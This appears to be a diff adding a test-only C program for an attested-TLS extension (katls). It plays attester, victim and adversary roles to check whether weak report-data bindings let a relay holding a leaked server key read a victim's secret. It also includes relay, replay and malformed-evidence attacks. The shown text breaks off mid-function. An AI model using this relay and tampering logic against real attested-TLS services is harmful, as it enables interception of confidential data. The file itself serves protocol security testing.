@@ -1,0 +1,1261 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * katls-attack - TEST-ONLY relay adversary and weak attested-TLS peers
+ * (Documentation/relay-attacks.rst).  Never installed.
+ *
+ *   katls-attack server --binding B --port P --cert C --key K
+ *	Attester A: TLS 1.3 server that answers the katls ClientHello
+ *	extension with configfs-tsm evidence whose report data is derived as
+ *	binding B says (the paper's #1..#7, or "katls" = binder v1).
+ *   katls-attack client --binding B --port P --ca C --policy F --secret S
+ *	Victim C: checks only binding B (plus the evidence signature and the
+ *	policy), then sends S as its first application bytes.
+ *   katls-attack relay --binding B --port P --upstream Q --cert C --key K
+ *		--secret S [--attack NAME]
+ *	Adversary M holding the leaked server key: terminates C's TLS,
+ *	obtains evidence from A on port Q as binding B allows, hands it to
+ *	C, and reports whether it could read C's first application bytes.
+ *	--attack selects the further attacks (see usage()).
+ *
+ * Every program prints one result line:
+ *   C: session established, sent secret   /  C: rejected: REASON
+ *   M: decrypted: TEXT                     /  M: failed: REASON
+ *   A: served                              /  A: failed: REASON
+ * and exits 0 on success of its own role, 1 otherwise, 2 on usage errors.
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <getopt.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <stdarg.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+#include <gnutls/gnutls.h>
+#include <gnutls/crypto.h>
+#include <gnutls/x509.h>
+#include <katls/binder.h>
+#include <katls/ext.h>
+#include <katls/tsm.h>
+#include <katls/verify.h>
+
+/* One suite only, so every party agrees on SHA-256 for the early secret. */
+#define WEAK_PRIORITY	"NORMAL:-VERS-ALL:+VERS-TLS1.3:%NO_TICKETS:" \
+			"-CIPHER-ALL:+AES-128-GCM"
+/* M facing the real katlsd: whatever it offers. */
+#define RELAY_PRIORITY	"NORMAL:-VERS-ALL:+VERS-TLS1.3:%NO_TICKETS:" \
+			"-CIPHER-ALL:+AES-128-GCM:+AES-256-GCM:" \
+			"+CHACHA20-POLY1305"
+#define HTSC_LABEL	"CLIENT_HANDSHAKE_TRAFFIC_SECRET"
+#define EARLY_LABEL	"katls weak early exporter"
+#define CH_MAX		4096
+#define EV_BODY_MAX	KATLS_EXT_BODY_MAX
+
+enum binding {
+	B_NONE,
+	B_RANDOM,		/* #1 client TLS random */
+	B_NONCE,		/* #2 client attestation nonce */
+	B_EARLY,		/* #3 early exporter */
+	B_SPKI,			/* #4 hash of the server public key */
+	B_NONCE_EARLY,		/* #5 = #2 + #3 */
+	B_NONCE_SPKI,		/* #6 = #2 + #4 */
+	B_ALL,			/* #7 = #2 + #3 + #4 */
+	B_KATLS,		/* binder v1 */
+};
+
+static const char *const binding_names[] = {
+	[B_RANDOM] = "1", [B_NONCE] = "2", [B_EARLY] = "3", [B_SPKI] = "4",
+	[B_NONCE_EARLY] = "5", [B_NONCE_SPKI] = "6", [B_ALL] = "7",
+	[B_KATLS] = "katls",
+};
+
+static const char *prog_role = "?";
+
+static struct {
+	const char *mode;
+	enum binding binding;
+	unsigned int port, upstream;
+	const char *cert, *key, *ca, *policy, *secret, *attack;
+	const char *other_cert;		/* wrong-key: spki to bind */
+	const char *sample;		/* tdx-sample: evidence file */
+	const char *roots;		/* verifier roots (tdx-sample) */
+} opt;
+
+__attribute__((format(printf, 1, 2), noreturn))
+static void result_fail(const char *fmt, ...)
+{
+	va_list ap;
+
+	printf("%s: %s: ", prog_role, prog_role[0] == 'C' ? "rejected" : "failed");
+	va_start(ap, fmt);
+	vprintf(fmt, ap);
+	va_end(ap);
+	printf("\n");
+	fflush(stdout);
+	exit(1);
+}
+
+/* ---- per-session state shared by the callbacks ---- */
+
+struct sess {
+	bool server;
+	enum binding binding;
+	char reason[256];
+
+	uint8_t htsc[64];
+	size_t htsc_len;
+	uint8_t ch[CH_MAX];		/* ClientHello incl. handshake header */
+	size_t ch_len;
+
+	/* the katls request: what the client sent / the server received */
+	struct katls_ext_request req;
+	uint8_t req_raw[KATLS_EXT_REQUEST_MAX];
+	size_t req_raw_len;
+	bool req_valid;
+	const uint8_t *req_override;	/* client: send these bytes instead */
+	size_t req_override_len;
+
+	/* the evidence record: what the server sends / the client received */
+	uint8_t ev_body[EV_BODY_MAX];
+	size_t ev_body_len;
+	bool ev_valid;
+	int (*ee_send)(gnutls_session_t s, struct sess *x, gnutls_buffer_t b);
+
+	struct katls_policy *policy;	/* client */
+	bool verified;
+};
+
+__attribute__((format(printf, 2, 3)))
+static int sfail(struct sess *x, const char *fmt, ...)
+{
+	va_list ap;
+
+	if (x->reason[0])
+		return -1;
+	va_start(ap, fmt);
+	vsnprintf(x->reason, sizeof(x->reason), fmt, ap);
+	va_end(ap);
+	return -1;
+}
+
+static int keylog_cb(gnutls_session_t s, const char *label,
+		     const gnutls_datum_t *secret)
+{
+	struct sess *x = gnutls_session_get_ptr(s);
+
+	if (strcmp(label, HTSC_LABEL) || secret->size > sizeof(x->htsc))
+		return 0;
+	memcpy(x->htsc, secret->data, secret->size);
+	x->htsc_len = secret->size;
+	return 0;
+}
+
+/*
+ * Keep the ClientHello as it goes into the transcript (with its 4-byte
+ * handshake header) for the early exporter.  GnuTLS passes the body; a
+ * ClientHello body starts with legacy_version 0x0303, a full message with
+ * type 1, so both forms are told apart.
+ */
+static int ch_hook(gnutls_session_t s, unsigned int htype, unsigned int when,
+		   unsigned int incoming, const gnutls_datum_t *msg)
+{
+	struct sess *x = gnutls_session_get_ptr(s);
+	size_t n = msg->size;
+
+	if (htype != GNUTLS_HANDSHAKE_CLIENT_HELLO)
+		return 0;
+	if (n >= 4 && msg->data[0] == 1 &&
+	    ((size_t)msg->data[1] << 16 | msg->data[2] << 8 | msg->data[3]) ==
+	    n - 4) {
+		if (n > sizeof(x->ch))
+			return GNUTLS_E_INTERNAL_ERROR;
+		memcpy(x->ch, msg->data, n);
+		x->ch_len = n;
+		return 0;
+	}
+	if (n + 4 > sizeof(x->ch) || n > 0xffffff)
+		return GNUTLS_E_INTERNAL_ERROR;
+	x->ch[0] = 1;
+	x->ch[1] = n >> 16;
+	x->ch[2] = n >> 8;
+	x->ch[3] = n;
+	memcpy(x->ch + 4, msg->data, n);
+	x->ch_len = n + 4;
+	return 0;
+}
+
+/*
+ * TLS 1.3 early exporter without a PSK (RFC 8446 §7.1, §7.5):
+ *   ES   = HKDF-Extract(0, 0)
+ *   EEMS = Derive-Secret(ES, "e exp master", ClientHello)
+ *   out  = HKDF-Expand-Label(Derive-Secret(EEMS, label, ""), "exporter",
+ *                            Hash(""), 64)
+ * GnuTLS's gnutls_prf_early() needs a PSK, so it is derived here from
+ * GnuTLS's HKDF.  It depends on the whole ClientHello and nothing else.
+ */
+static int early_exporter(const uint8_t *ch, size_t ch_len, uint8_t out[64])
+{
+	uint8_t zero[32] = { 0 }, es[32], eems[32], sec[32], h[32], he[32];
+	gnutls_datum_t ikm = { zero, sizeof(zero) }, salt = ikm;
+	int ret = -1;
+
+	if (!ch_len)
+		return -1;
+	if (gnutls_hkdf_extract(GNUTLS_MAC_SHA256, &ikm, &salt, es) ||
+	    gnutls_hash_fast(GNUTLS_DIG_SHA256, ch, ch_len, h) ||
+	    gnutls_hash_fast(GNUTLS_DIG_SHA256, "", 0, he))
+		goto out;
+	if (katls_hkdf_expand_label(GNUTLS_MAC_SHA256, es, 32, "e exp master",
+				    h, 32, eems, 32) ||
+	    katls_hkdf_expand_label(GNUTLS_MAC_SHA256, eems, 32, EARLY_LABEL,
+				    he, 32, sec, 32) ||
+	    katls_hkdf_expand_label(GNUTLS_MAC_SHA256, sec, 32, "exporter",
+				    he, 32, out, 64))
+		goto out;
+	ret = 0;
+out:
+	gnutls_memset(es, 0, sizeof(es));
+	gnutls_memset(eems, 0, sizeof(eems));
+	gnutls_memset(sec, 0, sizeof(sec));
+	return ret;
+}
+
+static gnutls_mac_algorithm_t prf_mac(gnutls_session_t s, size_t *len)
+{
+	switch (gnutls_prf_hash_get(s)) {
+	case GNUTLS_DIG_SHA256:
+		*len = 32;
+		return GNUTLS_MAC_SHA256;
+	case GNUTLS_DIG_SHA384:
+		*len = 48;
+		return GNUTLS_MAC_SHA384;
+	default:
+		*len = 0;
+		return GNUTLS_MAC_UNKNOWN;
+	}
+}
+
+/*
+ * report_data for binding b as the attester computes it and the victim
+ * recomputes it.  The weak bindings are SHA-512 over the concatenation of
+ * their inputs, in the order of the binding's name.
+ */
+static int report_data(gnutls_session_t s, struct sess *x,
+		       const uint8_t *cert_der, size_t cert_len,
+		       uint8_t rd[64])
+{
+	gnutls_datum_t spki = { 0 }, cr = { 0 }, sr = { 0 };
+	gnutls_hash_hd_t h = NULL;
+	uint8_t ex[64];
+	enum binding b = x->binding;
+	bool nonce = b == B_NONCE || b == B_NONCE_EARLY || b == B_NONCE_SPKI ||
+		     b == B_ALL;
+	bool key = b == B_SPKI || b == B_NONCE_SPKI || b == B_ALL;
+	bool early = b == B_EARLY || b == B_NONCE_EARLY || b == B_ALL;
+	int ret = -1;
+
+	if (!x->req_valid)
+		return sfail(x, "no attestation request");
+	if ((key || b == B_KATLS) &&
+	    katls_spki_from_cert_der(cert_der, cert_len, &spki))
+		return sfail(x, "cannot extract the certificate key");
+	if (b == B_KATLS) {
+		gnutls_mac_algorithm_t mac;
+		size_t hl;
+
+		mac = prf_mac(s, &hl);
+		if (mac == GNUTLS_MAC_UNKNOWN || x->htsc_len != hl)
+			sfail(x, "client handshake traffic secret not available");
+		else if (katls_binder_v1(mac, x->htsc, x->htsc_len,
+					 x->req.nonce, spki.data, spki.size,
+					 rd))
+			sfail(x, "binder computation failed");
+		else
+			ret = 0;
+		goto out;
+	}
+	if (early && early_exporter(x->ch, x->ch_len, ex)) {
+		sfail(x, "early exporter not available");
+		goto out;
+	}
+	if (gnutls_hash_init(&h, GNUTLS_DIG_SHA512))
+		goto out;
+	if (b == B_RANDOM) {
+		gnutls_session_get_random(s, &cr, &sr);
+		if (cr.size != 32) {
+			sfail(x, "no client random");
+			goto out;
+		}
+		gnutls_hash(h, cr.data, cr.size);
+	}
+	if (nonce)
+		gnutls_hash(h, x->req.nonce, sizeof(x->req.nonce));
+	if (key)
+		gnutls_hash(h, spki.data, spki.size);
+	if (early)
+		gnutls_hash(h, ex, sizeof(ex));
+	ret = 0;
+out:
+	if (h)
+		gnutls_hash_deinit(h, ret ? NULL : rd);
+	gnutls_memset(ex, 0, sizeof(ex));
+	gnutls_free(spki.data);
+	return ret;
+}
+
+/* ---- the extension ---- */
+
+static int ext_recv(gnutls_session_t s, const unsigned char *data, size_t len)
+{
+	struct sess *x = gnutls_session_get_ptr(s);
+	struct katls_ext_evidence e;
+	int ret;
+
+	if (x->server) {
+		ret = katls_ext_request_decode(data, len, &x->req);
+		if (ret)
+			return sfail(x, "malformed request: %s",
+				     katls_ext_strerror(ret)),
+			       GNUTLS_E_RECEIVED_ILLEGAL_PARAMETER;
+		memcpy(x->req_raw, data, len);
+		x->req_raw_len = len;
+		x->req_valid = true;
+		return 0;
+	}
+	ret = katls_ext_evidence_decode(data, len, &e);
+	if (ret)
+		return sfail(x, "malformed evidence record: %s",
+			     katls_ext_strerror(ret)),
+		       GNUTLS_E_RECEIVED_ILLEGAL_PARAMETER;
+	if (len > sizeof(x->ev_body))
+		return GNUTLS_E_RECEIVED_ILLEGAL_PARAMETER;
+	memcpy(x->ev_body, data, len);
+	x->ev_body_len = len;
+	x->ev_valid = true;
+	return 0;
+}
+
+static int client_hello_send(struct sess *x, gnutls_buffer_t buf)
+{
+	static const enum katls_evidence_type all[] = {
+		KATLS_EVIDENCE_TDX, KATLS_EVIDENCE_SNP, KATLS_EVIDENCE_CCA,
+		KATLS_EVIDENCE_SIM,
+	};
+	int n;
+
+	if (x->req_override) {
+		if (x->req_override_len > sizeof(x->req_raw))
+			return GNUTLS_E_INTERNAL_ERROR;
+		memcpy(x->req_raw, x->req_override, x->req_override_len);
+		x->req_raw_len = x->req_override_len;
+		if (katls_ext_request_decode(x->req_raw, x->req_raw_len,
+					     &x->req))
+			return GNUTLS_E_INTERNAL_ERROR;
+		x->req_valid = true;
+	}
+	if (!x->req_valid) {
+		memset(&x->req, 0, sizeof(x->req));
+		x->req.version = KATLS_EXT_VERSION;
+		x->req.mode = KATLS_EXT_MODE_BINDER_V1;
+		for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++)
+			if (!x->policy || katls_policy_allows(x->policy, all[i]))
+				x->req.types[x->req.ntypes++] = all[i];
+		if (gnutls_rnd(GNUTLS_RND_RANDOM, x->req.nonce,
+			       sizeof(x->req.nonce)))
+			return GNUTLS_E_INTERNAL_ERROR;
+		n = katls_ext_request_encode(&x->req, x->req_raw,
+					     sizeof(x->req_raw));
+		if (n <= 0)
+			return GNUTLS_E_INTERNAL_ERROR;
+		x->req_raw_len = n;
+		x->req_valid = true;
+	}
+	return gnutls_buffer_append_data(buf, x->req_raw, x->req_raw_len);
+}
+
+static int ext_send(gnutls_session_t s, gnutls_buffer_t buf)
+{
+	struct sess *x = gnutls_session_get_ptr(s);
+
+	if (!x->server)
+		return client_hello_send(x, buf);
+	if (!x->req_valid)
+		return 0;
+	return x->ee_send(s, x, buf);
+}
+
+/* Append an evidence record of type t to buf. */
+static int put_evidence(struct sess *x, gnutls_buffer_t buf,
+			enum katls_evidence_type t, const uint8_t *ev,
+			size_t ev_len, const uint8_t *aux, size_t aux_len)
+{
+	size_t cap = katls_ext_evidence_size(t, ev_len, aux_len);
+	uint8_t *out;
+	int n, ret;
+
+	if (!cap)
+		return sfail(x, "evidence does not fit the extension"),
+		       GNUTLS_E_INTERNAL_ERROR;
+	out = malloc(cap);
+	if (!out)
+		return GNUTLS_E_MEMORY_ERROR;
+	n = katls_ext_evidence_encode(t, ev, ev_len, aux, aux_len, out, cap);
+	if (n <= 0) {
+		free(out);
+		return sfail(x, "cannot encode evidence: %s",
+			     katls_ext_strerror(n)), GNUTLS_E_INTERNAL_ERROR;
+	}
+	ret = gnutls_buffer_append_data(buf, out, n);
+	free(out);
+	return ret;
+}
+
+/* Attester: evidence from configfs-tsm with report data of our binding. */
+static int attester_ee_send(gnutls_session_t s, struct sess *x,
+			    gnutls_buffer_t buf)
+{
+	const gnutls_datum_t *ours = gnutls_certificate_get_ours(s);
+	struct katls_tsm_report rep = { 0 };
+	uint8_t rd[64];
+	int ret;
+
+	if (!ours)
+		return sfail(x, "no certificate"), GNUTLS_E_INTERNAL_ERROR;
+	if (report_data(s, x, ours->data, ours->size, rd))
+		return GNUTLS_E_INTERNAL_ERROR;
+	ret = katls_tsm_get_report(NULL, rd, &rep);
+	if (ret)
+		return sfail(x, "configfs-tsm: %s", strerror(-ret)),
+		       GNUTLS_E_INTERNAL_ERROR;
+	ret = put_evidence(x, buf, rep.type, rep.outblob, rep.outblob_len,
+			   rep.auxblob, rep.auxblob_len);
+	katls_tsm_report_free(&rep);
+	return ret;
+}
+
+/* ---- victim: check only the binding, the evidence and the policy ---- */
+
+static gnutls_certificate_credentials_t victim_creds;
+
+static int victim_verify(gnutls_session_t s)
+{
+	struct sess *x = gnutls_session_get_ptr(s);
+	const gnutls_datum_t *certs;
+	struct katls_ext_evidence e;
+	struct katls_verify_opts o = { 0 };
+	struct katls_verdict *v;
+	struct katls_claims c;
+	unsigned int n = 0, status = 0;
+	uint8_t rd[64];
+	int ret;
+
+	certs = gnutls_certificate_get_peers(s, &n);
+	if (!certs || !n)
+		return sfail(x, "no server certificate"), -1;
+	/* The server key is pinned: the leaked key passes, any other fails. */
+	ret = gnutls_certificate_verify_peers3(s, NULL, &status);
+	if (ret < 0 || status)
+		return sfail(x, "server certificate not trusted"), -1;
+	if (!x->ev_valid)
+		return sfail(x, "server sent no evidence"), -1;
+	if (katls_ext_evidence_decode(x->ev_body, x->ev_body_len, &e))
+		return sfail(x, "malformed evidence"), -1;
+	if (!katls_policy_allows(x->policy, e.type))
+		return sfail(x, "policy does not allow %s evidence",
+			     katls_evidence_name(e.type)), -1;
+	if (report_data(s, x, certs[0].data, certs[0].size, rd))
+		return -1;
+	v = malloc(sizeof(*v));
+	if (!v)
+		return -1;
+	katls_verdict_init(v);
+	memset(&c, 0, sizeof(c));
+	o.aux = e.aux;
+	o.aux_len = e.aux_len;
+	o.expected_report_data = rd;
+	ret = katls_verify_evidence(e.type, e.evidence, e.evidence_len, &o,
+				    &c, v);
+	if (ret || !v->valid) {
+		sfail(x, "binding %s: evidence rejected: %s",
+		      binding_names[x->binding],
+		      v->nerrors ? v->errors[0] : "invalid");
+		goto bad;
+	}
+	katls_verdict_init(v);
+	if (katls_policy_eval(x->policy, &c, v)) {
+		sfail(x, "policy: %s", v->nerrors ? v->errors[0] : "rule failed");
+		goto bad;
+	}
+	free(v);
+	x->verified = true;
+	return 0;
+bad:
+	free(v);
+	return -1;
+}
+
+/* ---- sockets and sessions ---- */
+
+static int tcp_listen(unsigned int port)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET,
+				 .sin_port = htons(port),
+				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one,
+				 sizeof(one)) ||
+	    bind(fd, (struct sockaddr *)&a, sizeof(a)) || listen(fd, 8))
+		result_fail("listen on %u: %s", port, strerror(errno));
+	return fd;
+}
+
+static int tcp_connect(unsigned int port)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET,
+				 .sin_port = htons(port),
+				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	int fd, i;
+
+	/* The peer may still be starting up: retry for about 5 s. */
+	for (i = 0; i < 50; i++) {
+		fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+		if (fd < 0)
+			break;
+		if (!connect(fd, (struct sockaddr *)&a, sizeof(a)))
+			return fd;
+		close(fd);
+		usleep(100000);
+	}
+	return -1;
+}
+
+static gnutls_certificate_credentials_t server_creds(const char *cert,
+						      const char *key)
+{
+	gnutls_certificate_credentials_t c;
+
+	if (gnutls_certificate_allocate_credentials(&c) ||
+	    gnutls_certificate_set_x509_key_file(c, cert, key,
+						 GNUTLS_X509_FMT_PEM) < 0)
+		result_fail("cannot load %s / %s", cert, key);
+	return c;
+}
+
+static gnutls_session_t new_session(struct sess *x, bool server, int fd,
+				    const char *prio,
+				    gnutls_certificate_credentials_t creds)
+{
+	gnutls_session_t s;
+
+	x->server = server;
+	if (gnutls_init(&s, (server ? GNUTLS_SERVER : GNUTLS_CLIENT) |
+			GNUTLS_NO_SIGNAL) ||
+	    gnutls_priority_set_direct(s, prio, NULL) ||
+	    gnutls_credentials_set(s, GNUTLS_CRD_CERTIFICATE, creds))
+		result_fail("GnuTLS session set-up failed");
+	gnutls_session_set_ptr(s, x);
+	gnutls_session_set_keylog_function(s, keylog_cb);
+	gnutls_handshake_set_hook_function(s, GNUTLS_HANDSHAKE_CLIENT_HELLO,
+					   server ? GNUTLS_HOOK_PRE :
+					   GNUTLS_HOOK_POST, ch_hook);
+	if (gnutls_session_ext_register(s, KATLS_EXT_NAME, KATLS_EXT_TYPE,
+					GNUTLS_EXT_TLS, ext_recv, ext_send,
+					NULL, NULL, NULL,
+					GNUTLS_EXT_FLAG_TLS |
+					GNUTLS_EXT_FLAG_CLIENT_HELLO |
+					GNUTLS_EXT_FLAG_EE) < 0)
+		result_fail("cannot register the extension");
+	gnutls_transport_set_int(s, fd);
+	gnutls_handshake_set_timeout(s, 20000);
+	return s;
+}
+
+static int handshake(gnutls_session_t s)
+{
+	int ret;
+
+	do {
+		ret = gnutls_handshake(s);
+	} while (ret < 0 && !gnutls_error_is_fatal(ret));
+	return ret;
+}
+
+static const char *hs_error(struct sess *x, gnutls_session_t s, int ret)
+{
+	static char buf[320];
+
+	if (x->reason[0])
+		return x->reason;
+	if (ret == GNUTLS_E_FATAL_ALERT_RECEIVED)
+		snprintf(buf, sizeof(buf), "peer sent alert %s",
+			 gnutls_alert_get_name(gnutls_alert_get(s)));
+	else
+		snprintf(buf, sizeof(buf), "%s", gnutls_strerror(ret));
+	return buf;
+}
+
+/* ---- roles ---- */
+
+static int run_server(void)
+{
+	gnutls_certificate_credentials_t creds;
+	struct sess *x = calloc(1, sizeof(*x));
+	gnutls_session_t s;
+	char buf[512];
+	int lfd, fd, ret;
+
+	prog_role = "A";
+	if (!x)
+		return 1;
+	creds = server_creds(opt.cert, opt.key);
+	lfd = tcp_listen(opt.port);
+	printf("A: listening\n");
+	fflush(stdout);
+	fd = accept(lfd, NULL, NULL);
+	if (fd < 0)
+		result_fail("accept: %s", strerror(errno));
+	x->binding = opt.binding;
+	x->ee_send = attester_ee_send;
+	s = new_session(x, true, fd, WEAK_PRIORITY, creds);
+	gnutls_certificate_server_set_request(s, GNUTLS_CERT_IGNORE);
+	ret = handshake(s);
+	if (ret < 0)
+		result_fail("%s", hs_error(x, s, ret));
+	if (!x->req_valid)
+		result_fail("peer did not ask for attestation");
+	/* Serve: read what the client sends until it closes. */
+	while ((ret = gnutls_record_recv(s, buf, sizeof(buf))) > 0)
+		gnutls_record_send(s, "ack\n", 4);
+	printf("A: served\n");
+	gnutls_deinit(s);
+	close(fd);
+	close(lfd);
+	gnutls_certificate_free_credentials(creds);
+	free(x);
+	return 0;
+}
+
+static int run_client(void)
+{
+	struct sess *x = calloc(1, sizeof(*x));
+	char err[256], buf[64];
+	gnutls_session_t s;
+	int fd, ret;
+
+	prog_role = "C";
+	if (!x)
+		return 1;
+	if (katls_policy_load_file(opt.policy, &x->policy, err, sizeof(err)))
+		result_fail("policy: %s", err);
+	if (gnutls_certificate_allocate_credentials(&victim_creds) ||
+	    gnutls_certificate_set_x509_trust_file(victim_creds, opt.ca,
+						   GNUTLS_X509_FMT_PEM) <= 0)
+		result_fail("cannot load the pinned certificate %s", opt.ca);
+	fd = tcp_connect(opt.port);
+	if (fd < 0)
+		result_fail("connect to port %u: %s", opt.port, strerror(errno));
+	x->binding = opt.binding;
+	s = new_session(x, false, fd, WEAK_PRIORITY, victim_creds);
+	gnutls_session_set_verify_function(s, victim_verify);
+	ret = handshake(s);
+	if (ret < 0)
+		result_fail("%s", hs_error(x, s, ret));
+	if (!x->verified)
+		result_fail("evidence never verified");
+	/* The secret: C's first application bytes. */
+	if (gnutls_record_send(s, opt.secret, strlen(opt.secret)) < 0)
+		result_fail("send failed");
+	ret = gnutls_record_recv(s, buf, sizeof(buf));
+	printf("C: session established, sent secret\n");
+	gnutls_bye(s, GNUTLS_SHUT_WR);
+	gnutls_deinit(s);
+	close(fd);
+	katls_policy_free(x->policy);
+	gnutls_certificate_free_credentials(victim_creds);
+	free(x);
+	return 0;
+}
+
+/* ---- the adversary ---- */
+
+static struct sess *victim_side;	/* M's session with C */
+static uint8_t recorded[EV_BODY_MAX];	/* replay */
+static size_t recorded_len;
+
+/*
+ * M as a client of the genuine attester A: send req_raw (C's request,
+ * or a fresh one), optionally C's client random, and return A's
+ * evidence record.  M completes this handshake itself, so it can read
+ * the EncryptedExtensions.
+ */
+static int fetch_from_attester(const uint8_t *req_raw, size_t req_len,
+			       const gnutls_datum_t *client_random,
+			       uint8_t *body, size_t *body_len, char *why,
+			       size_t whylen)
+{
+	gnutls_certificate_credentials_t any;
+	struct sess *u = calloc(1, sizeof(*u));
+	gnutls_session_t s;
+	int fd, ret = -1;
+
+	if (!u)
+		return -1;
+	gnutls_certificate_allocate_credentials(&any);
+	fd = tcp_connect(opt.upstream);
+	if (fd < 0) {
+		snprintf(why, whylen, "cannot reach the attester");
+		goto out_free;
+	}
+	u->binding = opt.binding;
+	u->req_override = req_raw;
+	u->req_override_len = req_len;
+	s = new_session(u, false, fd, RELAY_PRIORITY, any);
+	if (client_random &&
+	    gnutls_handshake_set_random(s, client_random) < 0) {
+		snprintf(why, whylen, "cannot set the client random");
+		goto out;
+	}
+	ret = handshake(s);
+	if (ret < 0) {
+		snprintf(why, whylen, "handshake with the attester: %s",
+			 hs_error(u, s, ret));
+		ret = -1;
+		goto out;
+	}
+	if (!u->ev_valid) {
+		snprintf(why, whylen, "the attester sent no evidence");
+		ret = -1;
+		goto out;
+	}
+	memcpy(body, u->ev_body, u->ev_body_len);
+	*body_len = u->ev_body_len;
+	gnutls_bye(s, GNUTLS_SHUT_WR);
+	ret = 0;
+out:
+	gnutls_deinit(s);
+	close(fd);
+out_free:
+	gnutls_certificate_free_credentials(any);
+	free(u);
+	return ret;
+}
+
+static uint8_t *read_file(const char *path, size_t *len)
+{
+	FILE *f = fopen(path, "rb");
+	uint8_t *p = NULL;
+	long n;
+
+	if (!f)
+		return NULL;
+	if (!fseek(f, 0, SEEK_END) && (n = ftell(f)) > 0 &&
+	    n <= KATLS_EXT_EVIDENCE_MAX && !fseek(f, 0, SEEK_SET)) {
+		p = malloc(n);
+		if (p && fread(p, 1, n, f) != (size_t)n) {
+			free(p);
+			p = NULL;
+		}
+		*len = n;
+	}
+	fclose(f);
+	return p;
+}
+
+/*
+ * M's own evidence, bound with binder v1 to ITS handshake with C (M's
+ * htsc, C's nonce, the spki of --other-cert or of the leaked key).  In
+ * the VM, M can reach the simulated TEE itself: this is what an attacker
+ * on a genuine TEE could produce, and what the tampering attacks start
+ * from.
+ */
+static int own_bound_evidence(gnutls_session_t s, struct sess *x,
+			      struct katls_tsm_report *rep)
+{
+	const gnutls_datum_t *ours = gnutls_certificate_get_ours(s);
+	gnutls_datum_t other = { 0 };
+	uint8_t rd[64];
+	int ret;
+
+	x->binding = B_KATLS;
+	if (opt.other_cert) {
+		gnutls_x509_crt_t crt;
+		gnutls_datum_t pem = { 0 };
+
+		if (gnutls_load_file(opt.other_cert, &pem) ||
+		    gnutls_x509_crt_init(&crt))
+			return sfail(x, "cannot load %s", opt.other_cert);
+		ret = gnutls_x509_crt_import(crt, &pem, GNUTLS_X509_FMT_PEM);
+		if (!ret)
+			ret = gnutls_x509_crt_export2(crt, GNUTLS_X509_FMT_DER,
+						      &other);
+		gnutls_x509_crt_deinit(crt);
+		gnutls_free(pem.data);
+		if (ret)
+			return sfail(x, "cannot parse %s", opt.other_cert);
+		ret = report_data(s, x, other.data, other.size, rd);
+		gnutls_free(other.data);
+	} else {
+		ret = report_data(s, x, ours->data, ours->size, rd);
+	}
+	if (ret)
+		return -1;
+	ret = katls_tsm_get_report(NULL, rd, rep);
+	if (ret)
+		return sfail(x, "configfs-tsm: %s", strerror(-ret));
+	return 0;
+}
+
+static int relay_ee_send(gnutls_session_t s, struct sess *x,
+			 gnutls_buffer_t buf)
+{
+	const char *a = opt.attack;
+	struct katls_tsm_report rep = { 0 };
+	uint8_t body[EV_BODY_MAX];
+	size_t body_len = 0;
+	char why[300];
+	int ret;
+
+	if (!strcmp(a, "relay")) {
+		gnutls_datum_t cr = { 0 }, sr = { 0 };
+
+		/* Forward all C gave: its request and its client random. */
+		gnutls_session_get_random(s, &cr, &sr);
+		if (fetch_from_attester(x->req_raw, x->req_raw_len,
+					x->binding == B_RANDOM ? &cr : NULL,
+					body, &body_len, why, sizeof(why)))
+			return sfail(x, "%s", why), GNUTLS_E_INTERNAL_ERROR;
+		return gnutls_buffer_append_data(buf, body, body_len);
+	}
+	if (!strcmp(a, "replay"))
+		return gnutls_buffer_append_data(buf, recorded, recorded_len);
+	if (!strcmp(a, "no-evidence"))
+		return 0;
+	if (!strcmp(a, "tdx-sample")) {
+		uint8_t *ev = read_file(opt.sample, &body_len);
+
+		if (!ev)
+			return sfail(x, "cannot read %s", opt.sample),
+			       GNUTLS_E_INTERNAL_ERROR;
+		ret = put_evidence(x, buf, KATLS_EVIDENCE_TDX, ev, body_len,
+				   NULL, 0);
+		free(ev);
+		return ret;
+	}
+	if (own_bound_evidence(s, x, &rep))
+		return GNUTLS_E_INTERNAL_ERROR;
+	if (!strcmp(a, "self") || !strcmp(a, "wrong-key") ||
+	    !strcmp(a, "debug")) {
+		ret = put_evidence(x, buf, rep.type, rep.outblob,
+				   rep.outblob_len, rep.auxblob,
+				   rep.auxblob_len);
+	} else if (!strcmp(a, "label-tdx")) {
+		ret = put_evidence(x, buf, KATLS_EVIDENCE_TDX, rep.outblob,
+				   rep.outblob_len, NULL, 0);
+	} else if (!strcmp(a, "truncated")) {
+		ret = put_evidence(x, buf, rep.type, rep.outblob,
+				   rep.outblob_len / 2, NULL, 0);
+	} else if (!strcmp(a, "oversized") || !strcmp(a, "huge")) {
+		/* Valid evidence followed by junk; "huge" past the 32 KiB cap. */
+		size_t n = !strcmp(a, "huge") ? KATLS_EXT_EVIDENCE_MAX + 1 :
+			   rep.outblob_len + 64;
+		uint8_t *big = calloc(1, n);
+
+		if (!big)
+			ret = GNUTLS_E_MEMORY_ERROR;
+		else if (!strcmp(a, "huge")) {
+			/* Does not fit the record: write it by hand. */
+			const char *mt = katls_ext_media_type(rep.type);
+			size_t ml = strlen(mt), off = 0;
+			uint8_t *rec = malloc(n + ml + 16);
+
+			memcpy(big, rep.outblob, rep.outblob_len);
+			ret = GNUTLS_E_MEMORY_ERROR;
+			if (rec) {
+				rec[off++] = ml;
+				memcpy(rec + off, mt, ml);
+				off += ml;
+				rec[off++] = n >> 8;
+				rec[off++] = n;
+				memcpy(rec + off, big, n);
+				off += n;
+				rec[off++] = 0;
+				rec[off++] = 0;
+				rec[off++] = 0;
+				ret = gnutls_buffer_append_data(buf, rec, off);
+				free(rec);
+			}
+		} else {
+			memcpy(big, rep.outblob, rep.outblob_len);
+			ret = put_evidence(x, buf, rep.type, big, n, NULL, 0);
+		}
+		free(big);
+	} else if (!strcmp(a, "garbage")) {
